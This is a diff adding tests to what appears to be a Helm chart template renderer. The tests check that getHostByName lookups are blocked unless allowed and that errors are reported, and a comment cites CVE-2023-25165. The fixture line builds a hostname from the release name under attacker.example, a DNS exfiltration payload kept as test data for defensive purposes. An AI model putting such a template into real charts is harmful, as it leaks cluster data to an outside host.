@@ -90,6 +90,36 @@ missing: {{ lookup "v1" "Secret" "ns" "none" | empty }}
     assert.deepEqual(contents(made), ['kind: 0']);
   });
 
+  const secretive = 'address: {{ getHostByName (printf "%s.attacker.example" .Release.Name) | quote }}';
+
+  // CVE-2023-25165: names that templates make up carry values out of the cluster.
+  it('looks up no host unless it may', async () => {
+    const renders = begin();
+    const asked = await request('dns-denied', secretive);
+    assert.deepEqual(contents(await renders.render(asked, limits)), ['address: ""']);
+    const lookup = (): Promise<undefined> => Promise.reject(new Error('asked for a name'));
+    assert.deepEqual(contents(await renders.render(asked, { ...limits, lookup })), ['address: ""']);
+  });
+
+  it('asks the process for the addresses of a host, and takes the first', async () => {
+    const hosts: string[] = [];
+    const addresses: RenderLimits['addresses'] = async (host) => {
+      await setImmediate();
+      hosts.push(host);
+      return ['192.0.2.1', '192.0.2.2'];
+    };
+    const asked = await request('dns', `${secretive}\nmissing: {{ lookup "v1" "Secret" "ns" "s" | empty }}`);
+    const made = await begin().render(asked, { ...limits, addresses });
+    assert.deepEqual(contents(made), ['address: "192.0.2.1"\nmissing: true']);
+    assert.deepEqual(hosts, ['rel.attacker.example']);
+  });
+
+  it('fails with what the search for a host failed with', async () => {
+    const addresses = (): Promise<never> => Promise.reject(new Error('lookup of host x: no such host'));
+    const made = await begin().render(await request('dns-refused', secretive), { ...limits, addresses });
+    assert.match(contents(made).join(), /error calling getHostByName: lookup of host x: no such host/);
+  });
+
   for (const [what, template, message] of [
     ['a list without end', '{{ range until 1000000000 }}x{{ end }}', /more than/],
     [
